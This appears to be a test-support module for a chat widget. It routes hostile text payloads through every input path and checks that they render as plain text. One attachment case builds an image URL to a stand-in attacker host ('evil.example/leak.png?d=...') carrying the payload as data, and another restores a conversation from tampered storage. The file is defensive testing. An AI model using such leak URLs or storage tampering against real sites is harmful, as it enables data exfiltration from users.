/**
 * Every path by which text reaches the widget, as data: how to deliver a payload
 * along it, what the conversation must look like afterwards (nothing lost or
 * duplicated), what the human control must be, and where the payload must show as
 * text. `content.test.tsx` runs every payload through every path.
 */
import { fireEvent, within } from '@testing-library/preact';
import { expect } from 'vitest';
import { createMemoryStorage } from '../../../src/core/environment';
import { createRedactor } from '../../../src/core/masking';
import type { Message } from '../../../src/core/types';
import { stripBidiControls } from '../../../src/ui/strip-bidi-controls';
import type { HarnessOptions } from '../../ui/widget-harness';
import { marker, type Payload } from '../payloads';
import { emitRendered, flush, step, type ControlKind, type Watched } from './watched-widget';
import { QUIET_ESCALATION } from './quiet-escalation';

export interface TextPath {
  name: string;
  options?(p: Payload): HarnessOptions;
  deliver(w: Watched, p: Payload): Promise<void>;
  /** The conversation afterwards, by author. */
  authors(p: Payload): Message['author'][];
  control: ControlKind;
  /** The payload reached the customer as text, whole. */
  shown(w: Watched, p: Payload): void;
}

const BASE: HarnessOptions = { chat: { escalation: QUIET_ESCALATION } };
const T = Date.UTC(2026, 0, 5, 9, 30);
const mask = createRedactor();

/** The payload with a marker paragraph after it: if the marker shows, nothing was cut off. */
export const body = (p: Payload): string => `${p.text}\n\n${marker(p)}`;

/** The rendered text of the last bot or agent message (attachments not included). */
const lastBubble = (w: Watched): Element => {
  const bubbles = w.container.querySelectorAll('[part~="message"] .bubble .md');
  return bubbles[bubbles.length - 1] as Element;
};

/** Lone surrogates cannot be URI-encoded; a backend would have sent U+FFFD. */
const uriSafe = (text: string): string =>
  encodeURIComponent(text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'));

/** The customer's own message, then the one-time "we mask sensitive data" notice when it held some. */
const customerLine = (p: Payload): Message['author'][] => (mask(p.text).kinds.length ? ['customer', 'system'] : ['customer']);

const visibleText = (el: Element): string => {
  const clone = el.cloneNode(true) as Element;
  clone.querySelectorAll('.sr-only').forEach((s) => s.remove());
  return clone.textContent ?? '';
};

function expectMarker(w: Watched, p: Payload): void {
  const text = visibleText(lastBubble(w));
  expect(text.trim().endsWith(marker(p))).toBe(true);
  expect(text.length).toBeGreaterThan(marker(p).length);
}

async function joinAgent(w: Watched, agent = { name: 'Alex' }): Promise<void> {
  await step(() => w.chat.requestHuman());
  await step(() => w.human.backend.emit({ type: 'agent-joined', agent }));
}

async function stream(w: Watched, lane: 'bot' | 'human', id: string, text: string): Promise<void> {
  const backend = lane === 'bot' ? w.bot!.backend : w.human.backend;
  // One character per delta, surrogate pairs kept whole: every prefix is rendered once.
  const pieces = Array.from(text);
  for (let i = 0; i < pieces.length; i++) {
    const done = i === pieces.length - 1;
    await emitRendered(() => backend.emit({ type: 'delta', id, text: pieces[i] as string, ...(done ? { done } : {}) }));
  }
  await flush(2);
}

function storedConversation(p: Payload, phase: 'bot' | 'human'): string {
  const P = p.text;
  const messages = [
    { id: 's1', author: 'customer', text: P, time: T, status: 'sent', chosenReply: { title: P, payload: P } },
    { id: 's2', author: 'agent', text: body(p), time: T + 1, status: 'sent', agent: { name: P, title: P, avatarUrl: P } },
    { id: 's3', author: 'system', text: P, time: T + 2, status: 'sent', notice: { code: 'agent-joined', params: { name: P } } },
    { id: 's4', author: 'system', text: P, time: T + 3, status: 'sent', notice: { code: 'no-such-notice', params: { x: P } } },
    {
      id: 's5',
      author: 'bot',
      text: body(p),
      time: T + 4,
      status: 'sent',
      quickReplies: [{ title: P, payload: P }],
      attachments: [
        { kind: 'image', url: P, alt: P, name: P },
        { kind: 'file', url: `https://files.example/${uriSafe(P)}`, name: P },
      ],
    },
  ];
  return JSON.stringify({
    v: 1,
    conversationId: 'conv_restored',
    phase,
    messages,
    draft: P,
    handoff: phase === 'human' ? { status: 'connected', attempts: 0, requestId: 'req_r', reason: P, trigger: 'button' } : { status: 'none', attempts: 0 },
    agent: phase === 'human' ? { name: P, title: P, avatarUrl: 'https://evil.example/avatar.png' } : undefined,
    user: { name: P, attributes: { note: P } },
    startedAt: T,
    rating: 'none',
  });
}

function restoredOptions(p: Payload, phase: 'bot' | 'human'): HarnessOptions {
  const storage = createMemoryStorage();
  storage.setItem('hc:default:conversation', storedConversation(p, phase));
  return { chat: { escalation: QUIET_ESCALATION, storage } };
}

const RESTORED_AUTHORS = (): Message['author'][] => ['customer', 'agent', 'system', 'system', 'bot'];

export const TEXT_PATHS: readonly TextPath[] = [
  {
    name: 'bot message',
    deliver: (w, p) => step(() => w.bot!.backend.emit({ type: 'message', message: { id: 'b1', text: body(p), time: T } })),
    authors: () => ['bot'],
    control: 'request',
    shown: expectMarker,
  },
  {
    name: 'bot message streamed one character per delta',
    deliver: (w, p) => stream(w, 'bot', 'b1', body(p)),
    authors: () => ['bot'],
    control: 'request',
    shown(w, p) {
      expectMarker(w, p);
      expect(w.chat.state.messages[0]?.text).toBe(body(p));
    },
  },
  {
    name: 'agent message',
    async deliver(w, p) {
      await joinAgent(w);
      await step(() => w.human.backend.emit({ type: 'message', message: { id: 'a1', text: body(p), agent: { name: 'Alex' } } }));
    },
    authors: () => ['system', 'system', 'system', 'agent'],
    control: 'end',
    shown: expectMarker,
  },
  {
    name: 'agent message streamed one character per delta',
    async deliver(w, p) {
      await joinAgent(w);
      await stream(w, 'human', 'a1', body(p));
    },
    authors: () => ['system', 'system', 'system', 'agent'],
    control: 'end',
    shown: expectMarker,
  },
  {
    name: 'agent display name and title',
    async deliver(w, p) {
      await joinAgent(w, { name: p.text, title: p.text, avatarUrl: 'https://evil.example/avatar.png' } as never);
      await step(() => w.human.backend.emit({ type: 'typing', active: true, agent: { name: p.text } }));
      await step(() => w.human.backend.emit({ type: 'message', message: { id: 'a1', text: 'Hello', agent: { name: p.text, title: p.text } } }));
    },
    authors: () => ['system', 'system', 'system', 'agent'],
    control: 'end',
    shown(w, p) {
      // Names go into the widget's sentences without bidi controls (see stripBidiControls).
      const name = stripBidiControls(p.text);
      const header = w.container.querySelector('[part~="answerer"]') as Element;
      expect(header.textContent).toContain(name);
      const author = w.container.querySelector('.msg-agent .author') as Element;
      expect(author.textContent).toContain(name);
    },
  },
  {
    name: 'customer message typed in the composer',
    options: () => ({ ...BASE, bot: { reply: (text) => text } }),
    async deliver(w, p) {
      const box = within(w.container as HTMLElement).getByLabelText('Message') as HTMLTextAreaElement;
      await step(() => fireEvent.input(box, { target: { value: p.text } }));
      await step(() => fireEvent.keyDown(box, { key: 'Enter' }));
    },
    authors: (p) => [...customerLine(p), 'bot'],
    control: 'request',
    shown(w, p) {
      const mine = w.container.querySelector('.msg-customer .plain') as Element;
      expect(mine.textContent).toBe(p.text.trim());
      expect(w.bot!.backend.received.map((m) => m.text)).toEqual([p.text.trim()]);
    },
  },
  {
    name: 'quick reply button label and payload',
    options: () => ({ ...BASE, bot: { reply: () => undefined } }),
    async deliver(w, p) {
      await step(() =>
        w.bot!.backend.emit({ type: 'message', message: { id: 'b1', text: 'Pick one', quickReplies: [{ title: p.text, payload: p.text }, { title: 'Other' }] } }),
      );
      const chip = w.container.querySelector('[part~="quick-reply"]') as HTMLButtonElement;
      expect(chip.textContent).toBe(p.text);
      await step(() => fireEvent.click(chip));
    },
    authors: (p) => ['bot', ...customerLine(p)],
    control: 'request',
    shown(w, p) {
      expect((w.container.querySelector('.msg-customer .plain') as Element).textContent).toBe(p.text.trim());
      expect(w.bot!.backend.received[0]?.quickReply).toEqual({ title: p.text, payload: p.text });
    },
  },
  {
    name: 'attachment url, name and alt',
    options: () => ({ ...BASE, imageOrigins: ['https://cdn.example.com'] }),
    deliver: (w, p) =>
      step(() =>
        w.bot!.backend.emit({
          type: 'message',
          message: {
            id: 'b1',
            text: 'Here you go',
            attachments: [
              { kind: 'image', url: 'https://cdn.example.com/receipt.png', alt: p.text, name: p.text },
              { kind: 'image', url: `https://evil.example/leak.png?d=${uriSafe(p.text)}`, alt: p.text },
              { kind: 'image', url: p.text, alt: p.text },
              { kind: 'file', url: p.text, name: p.text },
              { kind: 'file', url: `https://files.example/${uriSafe(p.text)}`, name: p.text },
            ],
          },
        }),
      ),
    authors: () => ['bot'],
    control: 'request',
    shown(w, p) {
      const items = w.container.querySelectorAll('.attachments > *');
      expect(items).toHaveLength(5);
      // The allowed image loads with the payload as alt text; every other item shows its name as text.
      expect((items[0] as HTMLImageElement).getAttribute('alt')).toBe(p.text);
      expect(items[4]?.textContent).toContain(stripBidiControls(p.text));
      expect(w.container.querySelectorAll('img')).toHaveLength(1);
    },
  },
  {
    name: 'conversation restored from hostile storage (bot phase)',
    options: (p) => restoredOptions(p, 'bot'),
    deliver: () => flush(),
    authors: RESTORED_AUTHORS,
    control: 'request',
    shown(w, p) {
      expectMarker(w, p);
      expect((w.container.querySelector('[part~="quick-reply"]') as Element).textContent).toBe(p.text);
      expect((w.container.querySelector('[part~="input"]') as HTMLTextAreaElement).value).toBe(p.text);
    },
  },
  {
    name: 'conversation restored from hostile storage (with a person)',
    options: (p) => restoredOptions(p, 'human'),
    deliver: () => flush(),
    authors: RESTORED_AUTHORS,
    control: 'end',
    shown(w, p) {
      expect((w.container.querySelector('[part~="answerer"]') as Element).textContent).toContain(stripBidiControls(p.text));
    },
  },
  {
    name: 'availability message from the desk',
    options: (p) => ({ ...BASE, human: { availability: { available: false, message: p.text } } }),
    deliver: () => flush(),
    authors: () => [],
    control: 'leave-message',
    shown(w, p) {
      expect((w.container.querySelector('[part~="availability"]') as Element).textContent).toBe(p.text);
    },
  },
  {
    name: 'user name and handoff transcript',
    options: () => ({ ...BASE, bot: { reply: (text) => text } }),
    async deliver(w, p) {
      await step(() => w.chat.identify({ name: p.text.slice(0, 500), attributes: { plan: p.text } }));
      await step(() => w.chat.send(body(p)));
      await step(() => w.bot!.backend.emit({ type: 'handoff-suggested', reason: p.text }));
      const details = w.container.querySelector('[part~="transcript-preview"]') as HTMLDetailsElement;
      details.open = true;
      await step(() => details.dispatchEvent(new Event('toggle')));
    },
    authors: (p) => [...customerLine(p), 'bot', 'system', 'system'],
    control: 'waiting',
    shown(w, p) {
      const request = w.human.backend.handoffs[0];
      expect(request?.transcript.messages.filter((m) => m.author !== 'system').map((m) => [m.author, m.text])).toEqual([
        ['customer', mask(body(p)).text],
        ['bot', mask(body(p)).text],
      ]);
      expect(request?.transcript.context.user).toEqual({ name: p.text.slice(0, 500), attributes: { plan: p.text } });
      expect(request?.transcript.context.reason).toBe(mask(p.text.trim().slice(0, 500)).text || 'The bot asked for a person');
      const preview = w.container.querySelector('[part~="transcript-preview"] pre') as Element;
      expect(preview.textContent).toContain(marker(p));
    },
  },
];
